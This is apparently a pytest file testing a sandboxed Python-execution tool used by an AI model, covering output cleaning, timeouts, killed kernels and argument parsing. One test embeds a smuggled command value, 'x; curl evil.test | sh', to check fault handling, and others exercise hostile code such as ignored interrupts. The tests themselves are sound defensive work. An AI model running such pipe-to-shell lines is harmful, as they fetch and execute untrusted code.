"""The contract of the python tool (spec tools §2.1), under whatever confines code on this machine."""

from __future__ import annotations

import base64
import json
import struct
import time
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from ossia.tools import sandbox
from ossia.tools.python._kernel import KernelMessage
from ossia.tools.python.output import Cell
from ossia.tools.python.tool import DESCRIPTION, NO_OUTPUT, PythonTool, code_of
from ossia.tools.spec import Attachment, Fault, Taint, ToolResult
from ossia.tools.text import Bounded, clean, trim
from tests.support.kernels import BACKENDS, StopByHand, confinement, context, count_tokens, run

LOST = "kernel restarted, variables lost, /mnt/data kept"
PRIVATE: frozenset[Taint] = frozenset({"private"})


@pytest.fixture(scope="module", params=BACKENDS)
def tool(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[PythonTool]:
    made = PythonTool(
        data_dir=tmp_path_factory.mktemp("session"),
        confinement=confinement(request.param),
        timeout_s=60,
        grace_s=2.0,
    )
    yield made
    made.close()


@pytest.fixture(scope="module")
def any_tool(tmp_path_factory: pytest.TempPathFactory) -> Iterator[PythonTool]:
    """Under whichever confines best here: for what takes long and has nothing to do with how code is confined."""
    best = sandbox.choose(sandbox.inspect())
    made = PythonTool(data_dir=tmp_path_factory.mktemp("session"), confinement=best, timeout_s=60)
    yield made
    made.close()


@pytest.fixture
def quick(tool: PythonTool, monkeypatch: pytest.MonkeyPatch) -> PythonTool:
    """The same kernel with a second for each call."""
    run(tool, "")
    monkeypatch.setattr(tool, "_timeout_s", 1.0)
    return tool


# -- what comes back ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("code", "text"),
    [
        ("1+1", "2"),
        ("print('a')", "a"),
        ("x = 41", NO_OUTPUT),
        ("", NO_OUTPUT),
        ("import sys\nprint('a')\nprint('b', file=sys.stderr)\nprint('c')\n'd'", "a\nb\nc\n'd'"),
        ("for i in range(3): print(i, end='\\r')\nprint('done')", "done"),
        ("print('\\x1b[31mred\\x1b[0m \\x1b]52;c;AAAA\\x07ok \\x9b31m!')", "red ok !"),
        ("display({'text/plain': 'raw'}, raw=True)", "raw"),
        ("import subprocess\nprint('a')\nsubprocess.run(['echo', 'b'])\nprint('c')", "a\nb\nc"),
        ("import os\nfor n in range(40):\n    print('a')\n    os.write(1, b'b\\n');", "a\nb\n" * 39 + "a\nb"),
        ("!echo $((6*7))", "42"),
        ("import os\nif os.fork() == 0:\n    print('child')\n    os._exit(0)\nos.wait();", "child"),
        ("await __import__('asyncio').sleep(0)\nprint('awaited')", "awaited"),
        ("print('/mnt/data/' + 'x'); import os; print(os.getcwd())", "/mnt/data/x\n/mnt/data"),
        ("from pathlib import Path\nPath('/mnt/data/f.txt').write_text('hi')\nprint(open('f.txt').read())", "hi"),
        ('{"code": "print(6*7)"}', "42"),
        ("```python\nprint(6*7)\n```", "42"),
    ],
)
def test_the_model_reads(tool: PythonTool, code: str, text: str) -> None:
    assert run(tool, code).result == ToolResult(text, taints=PRIVATE)


def test_a_fault_is_a_traceback_once_and_without_colours(tool: PythonTool) -> None:
    ran = run(tool, "def f():\n    return 1/0\nf()")
    assert ran.result.error
    assert ran.text.count("ZeroDivisionError: division by zero") == 1
    assert ran.text.count("Traceback (most recent call last)") == 1
    assert "\x1b" not in ran.text
    assert "----> 2     return 1/0" in ran.text


_ODD = "class Odd({}):\n    def __str__(self): {}\nraise Odd"


@pytest.mark.parametrize(
    ("code", "text", "failed"),
    [
        ("print('a\\ud800b'); print(2)", "a?b\n2", False),
        ("import sys; print('a\\udfff', file=sys.stderr)", "a?", False),
        ("display({'text/plain': 'a\\ud800'}, raw=True)", "a?", False),
        ("raise ValueError('a\\ud800')", "ValueError: a?", True),
        ('{"code": "print(\'a\\ud800b\')"}', "a?b", False),
        (_ODD.format("Exception", "raise SystemExit(3)"), "SystemExit: 3", True),
        (_ODD.format("BaseException", "raise Odd"), "Odd: (its text can't be had)", True),
    ],
)
def test_what_cannot_be_told_as_it_is(tool: PythonTool, code: str, text: str, failed: bool) -> None:
    """Half a surrogate pair, an error whose text can't be had: no message of the kernel's can hold them."""
    run(tool, "kept = 5")
    ran = run(tool, code)
    assert (ran.result.error, ran.text.endswith(text), "jupyter" in ran.text) == (failed, True, False), ran.text
    assert run(tool, "print(kept)").text == "5"


def test_a_missing_module_is_the_fault(tool: PythonTool) -> None:
    assert run(tool, "import not_there_at_all.part").result.fault == Fault("module", "not_there_at_all")
    for kind, name in (("ModuleNotFoundError", "x; curl evil.test | sh"), ("ValueError", "x")):
        failed = run(tool, f"raise {kind}(\"No module named '{name}'\")").result
        assert failed.error and failed.fault is None


def test_the_state_stays(tool: PythonTool) -> None:
    run(tool, "kept = [1]")
    assert run(tool, "kept.append(2); kept").text == "[1, 2]"
    assert run(tool, "_").text == "[1, 2]"


def test_output_arrives_while_the_code_runs(tool: PythonTool) -> None:
    call = tool.run("import time\nprint('early', flush=True)\ntime.sleep(30)", call_id="call_7", context=context())
    first = next(call)
    assert (first.call_id, first.text.strip(), first.stream) == ("call_7", "early", "stdout")  # the \n may come later
    started = time.monotonic()
    call.close()
    assert time.monotonic() - started < 20  # it didn't wait for the sleep
    assert run(tool, "1").text.endswith("1")


def test_a_long_output_keeps_its_head_and_its_tail(tool: PythonTool) -> None:
    ran = run(tool, "for i in range(30_000): print(f'line {i:06d}')")
    assert ran.text.startswith("line 000000\n") and ran.text.endswith("line 029999")
    head, _, rest = ran.text.partition("\n[... ")
    omitted, _, tail = rest.partition(" characters omitted]\n")
    assert 0.7 < len(head) / (len(head) + len(tail)) < 0.8
    assert count_tokens(ran.text) <= 4096 + 16
    assert abs(int(omitted) + len(head) + len(tail) - 30_000 * 12) < 10
    assert sum(len(output.text) for output in ran.outputs) <= 200_000


def test_the_end_of_a_long_output_is_the_error(tool: PythonTool) -> None:
    ran = run(tool, "print('x' * 1_000_000)\nraise ValueError('the last word')")
    assert ran.text.endswith("ValueError: the last word")
    assert "characters omitted]" in ran.text


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0abc")) + chunk(b"IEND", b"")


def test_a_picture_becomes_a_file(tool: PythonTool) -> None:
    code = f"import base64\nfrom IPython.display import Image\nImage(base64.b64decode({base64.b64encode(png())!r}))"
    first, second = run(tool, code), run(tool, code)
    assert first.result == ToolResult(
        "[image saved: /mnt/data/out_1.png]",
        attachments=(Attachment(tool.folder / "out_1.png", "image/png"),),
        taints=PRIVATE,
    )
    assert second.text == "[image saved: /mnt/data/out_2.png]"
    assert (tool.folder / "out_2.png").read_bytes() == png()
    assert run(tool, "open('/mnt/data/out_1.png', 'rb').read(4)").text == r"b'\x89PNG'"


def test_a_thread_that_prints_later_is_not_in_the_next_output(tool: PythonTool) -> None:
    """Hostile row 24."""
    run(tool, "import threading, time\nthreading.Thread(target=lambda: (time.sleep(0.3), print('late'))).start()")
    assert run(tool, "import time; time.sleep(0.8); print('mine')").text == "mine"


def test_a_thread_that_never_rests_does_not_cost_the_kernel(any_tool: PythonTool) -> None:
    """More than a queue of ZeroMQ's holds by itself for a reader that doesn't read."""
    code = """
kept = 5
import threading, time
def work():
    for _ in range(2000):
        display('d' * 300)
        time.sleep(0.0003)
thread = threading.Thread(target=work)
thread.start()
"""
    run(any_tool, code)
    time.sleep(2)
    assert run(any_tool, "kept").text == "5"
    run(any_tool, "thread.join()")


def test_input_is_refused(tool: PythonTool) -> None:
    """Hostile row 23: input()."""
    assert "StdinNotImplementedError" in run(tool, "input('name? ')").text


# -- time, stops, deaths -----------------------------------------------------------------------------------------------


def test_code_that_takes_too_long_is_interrupted(quick: PythonTool) -> None:
    run(quick, "kept = 1")
    ran = run(quick, "print('so far', flush=True)\nimport time; time.sleep(60)")
    assert ran.result.error
    assert ran.text.startswith("so far\n") and "KeyboardInterrupt" in ran.text
    assert ran.text.endswith("[ERROR] Execution timed out after 1.0 seconds; interrupted, state kept")
    assert run(quick, "kept").text == "1"


def test_code_that_ignores_its_interrupt_is_killed(quick: PythonTool, monkeypatch: pytest.MonkeyPatch) -> None:
    """Hostile row 22."""
    code = "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: time.sleep(0.1)"
    _is_killed(quick, code, monkeypatch)


@pytest.mark.parametrize(
    "code",
    [
        "import time\nwhile True:\n    try: time.sleep(60)\n    except BaseException: pass",
        "import re\nre.match(r'(a+)+$', 'a' * 40 + 'b')",
    ],
    ids=["BaseException swallowed", "a regular expression"],
)
def test_code_that_does_not_obey_is_killed(
    any_tool: PythonTool, monkeypatch: pytest.MonkeyPatch, code: str
) -> None:
    """Hostile row 22."""
    run(any_tool, "")
    monkeypatch.setattr(any_tool, "_timeout_s", 1.0)
    _is_killed(any_tool, code, monkeypatch)


def _is_killed(tool: PythonTool, code: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tool, "_grace_s", 0.3)
    run(tool, "kept = 1")
    ran = run(tool, code)
    assert ran.text.endswith(f"[ERROR] Execution timed out after 1.0 seconds; {LOST}")
    assert "NameError" in run(tool, "kept").text


@pytest.mark.parametrize(
    ("code", "end"),
    [
        ("import time; time.sleep(60)", "[ERROR] Interrupted by the user; state kept"),
        (
            "import time\nwhile True:\n    try: time.sleep(60)\n    except BaseException: pass",
            f"[ERROR] Interrupted: out of time; {LOST}",
        ),
    ],
    ids=["obeys", "doesn't"],
)
def test_a_stop_ends_the_call(tool: PythonTool, code: str, end: str) -> None:
    run(tool, "")
    stop = StopByHand(stop_reason="time" if "out of time" in end else "user")
    stop.stop_after(0.3)
    ran = run(tool, code, stop)
    assert ran.result.error and ran.text.endswith(end)


def test_a_turn_that_was_stopped_before_runs_nothing(tool: PythonTool) -> None:
    stop = StopByHand(stopped=True)
    assert run(tool, "open('ran', 'w')", stop).text == "[interrupted by the user]"
    assert not (tool.folder / "ran").exists()


def test_a_stop_while_the_kernel_starts(tmp_path: Path) -> None:
    found = sandbox.choose(sandbox.inspect())
    stop = StopByHand()
    stop.stop_after(0.05)
    made = PythonTool(data_dir=tmp_path, confinement=found)
    try:
        assert "Interrupted by the user" in run(made, "import time; time.sleep(60)", stop).text
        assert run(made, "1+1").text == "2"  # the kernel that was starting is the one that runs
    finally:
        made.close()


@pytest.mark.parametrize(
    ("code", "why"),
    [
        ("import os, time; print('before', flush=True); time.sleep(0.3); os._exit(3)", "exit status 3"),
        ("import ctypes, time; print('before', flush=True); time.sleep(0.3); ctypes.string_at(0)", "SIGSEGV"),
    (
            "import os, time; print('before', flush=True); time.sleep(0.3); os.kill(os.getpid(), 9)",
            "memory limit?",
        ),
    ],
    ids=["exit", "segfault", "killed"],
)
def test_a_kernel_that_dies_is_said_and_replaced(tool: PythonTool, code: str, why: str) -> None:
    """Hostile row 23: os._exit, a segfault, SIGKILL."""
    run(tool, "kept = 1")
    text = f"before\n[ERROR] kernel died ({why}); {LOST}"
    assert run(tool, code).result == ToolResult(text, error=True, taints=PRIVATE)
    assert "NameError" in run(tool, "kept").text


def test_a_death_between_two_calls_is_said(tool: PythonTool) -> None:
    run(tool, "import threading, os\nthreading.Timer(0.1, lambda: os._exit(0)).start()")
    kernel = tool._kernel
    assert kernel is not None
    assert kernel.process._ended.wait(20)
    assert run(tool, "1+1").text == (
        "[WARN] the kernel died since the last call (exit status 0); variables lost, /mnt/data kept\n2"
    )


def test_the_files_outlive_the_kernel(tool: PythonTool) -> None:
    run(tool, "open('/mnt/data/kept.txt', 'w').write('here')\nimport os; os._exit(0)")
    assert run(tool, "open('/mnt/data/kept.txt').read()").text == "'here'"


# -- the tool as a tool ------------------------------------------------------------------------------------------------


def test_the_description_is_the_trained_one() -> None:
    harmony = pytest.importorskip("openai_harmony")
    assert harmony.ToolNamespaceConfig.python().description == DESCRIPTION


def test_its_specification(tool: PythonTool) -> None:
    spec = tool.spec
    assert (spec.name, spec.input, spec.parameters, spec.trained) == ("python", "text", None, True)
    assert spec.effects == set()
    assert spec.section is None


def test_a_note_stands_after_the_trained_text(tmp_path: Path) -> None:
    made = PythonTool(data_dir=tmp_path, confinement=sandbox.choose(sandbox.inspect()), note="numpy can be imported.")
    assert made.spec.section == f"{made.spec.description}\n\nnumpy can be imported."


def test_a_preview_shows_the_code(tool: PythonTool) -> None:
    preview = tool.preview('{"code": "a\\nb"}', context=context())
    assert preview.detail == "a\nb" and preview.language == "python"
    assert preview.summary == "Run Python: a … (2 lines)"
    assert preview.conditions == f"confined by {tool.confinement.name}"


def test_switched_off_it_says_why(tmp_path: Path) -> None:
    made = PythonTool(data_dir=tmp_path, confinement=sandbox.Off("python", "nothing confines here"))
    made.start()
    assert run(made, "1").result == ToolResult(
        "Error: python is off on this machine: nothing confines here", error=True, taints=frozenset({"private"})
    )
    assert list(tmp_path.iterdir()) == []


def test_closed_it_leaves_nothing_but_the_files(tmp_path: Path) -> None:
    made = PythonTool(data_dir=tmp_path, confinement=sandbox.choose(sandbox.inspect()))
    made.start()
    assert run(made, "1").text == "1"
    kernel = made._kernel
    assert kernel is not None
    made.close()
    made.close()
    assert kernel.process.ended and not kernel.job.fixed.exists()
    assert list(tmp_path.iterdir()) == []
    assert run(made, "1").text == "[ERROR] python is closed"


def test_closed_in_the_middle_of_a_call(tmp_path: Path) -> None:
    made = PythonTool(data_dir=tmp_path, confinement=sandbox.choose(sandbox.inspect()))
    call = made.run("import time\nprint('early', flush=True)\ntime.sleep(60)", call_id="call_1", context=context())
    next(call)
    made.close()
    call.close()
    assert list(tmp_path.iterdir()) == []


def test_the_folder_of_a_session_is_closed_to_others(tool: PythonTool) -> None:
    run(tool, "open('/mnt/data/f', 'w')")
    assert tool.folder.stat().st_mode & 0o777 == 0o700


# -- the parts ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("arguments", "code"),
    [
        ("print(1)", "print(1)"),
        ("  x = 1\n", "  x = 1\n"),
        ('{"code": "a"}', "a"),
        ('{"script": "b", "timeout": 3}', "b"),
        ('{"input": "```py\\nc\\n```"}', "c"),
        ("```python\nd\ne\n```\n", "d\ne"),
        ("```\nf\n```", "f"),
        ('{"other": 1}', '{"other": 1}'),
        ('{"code": 1}', '{"code": 1}'),
        ('{"a": [1', '{"a": [1'),
        ("{" * 10_000, "{" * 10_000),
        (json.dumps({"code": "é\n\"'"}), "é\n\"'"),
        (json.dumps(json.dumps({"code": "g"})), "g"),
        ('"print(1)"', '"print(1)"'),
    ],
)
def test_the_code_in_a_call(arguments: str, code: str) -> None:
    assert code_of(arguments) == code


@pytest.mark.parametrize(
    ("raw", "text"),
    [
        ("10%\r100%\n", "100%\n"),
        ("50%\r", "50%"),
        ("a\r\nb\r\n", "a\nb\n"),
        ("\x1b[1;31mred\x1b[0m", "red"),
        ("\x1b]8;;http://x\x1b\\link\x1b]8;;\x1b\\", "link"),
        ("\x1bPq#0\x1b\\x", "x"),
        ("a\tb\x00\x07\x08\x7f\x85c", "a\tc"),
        ("\x1b[2", ""),
        ("naïve 工具", "naïve 工具"),
    ],
)
def test_cleaned(raw: str, text: str) -> None:
    assert clean(raw) == text


def test_bounded_keeps_both_ends() -> None:
    kept = Bounded(head=10, tail=5)
    for number in range(1000):
        kept.add(f"{number:03d},")
    assert (kept.head, kept.tail, kept.omitted) == ("000,001,00", ",999,"[-5:], 4000 - 15)


def test_output_that_still_comes_after_the_reply_is_waited_for(tmp_path: Path) -> None:
    """On a busy machine a second and more of output can lie between the reply and the end of the output."""
    cell = Cell("", "call_1", tmp_path, str, request="r")
    list(cell.take(KernelMessage("r", "execute_reply", {})))
    time.sleep(1.05)
    assert cell.finished(1.0)
    list(cell.take(KernelMessage("r", "stream", {"text": "late"})))
    assert not cell.finished(1.0)
    list(cell.take(KernelMessage("r", "status", {"execution_state": "idle"})))
    assert cell.finished(1.0)


@pytest.mark.parametrize("text", ["", "short", "x" * 400, "a b " * 100])
def test_what_fits_is_not_trimmed(text: str) -> None:
    assert trim(text, max_tokens=100, count_tokens=count_tokens) == text


def test_trimmed_by_tokens_not_by_characters() -> None:
    spaces = " " * 100_000 + "end"
    cut = trim(spaces, max_tokens=100, count_tokens=lambda text: -(-len(text) // 500))
    assert cut.endswith("end") and "characters omitted" in cut




def test_half_a_surrogate_pair_is_replaced() -> None:
    """Python code can't print one, but a message forged by hand can hold it."""
    assert clean("a\ud800b\n") == "a?b\n"
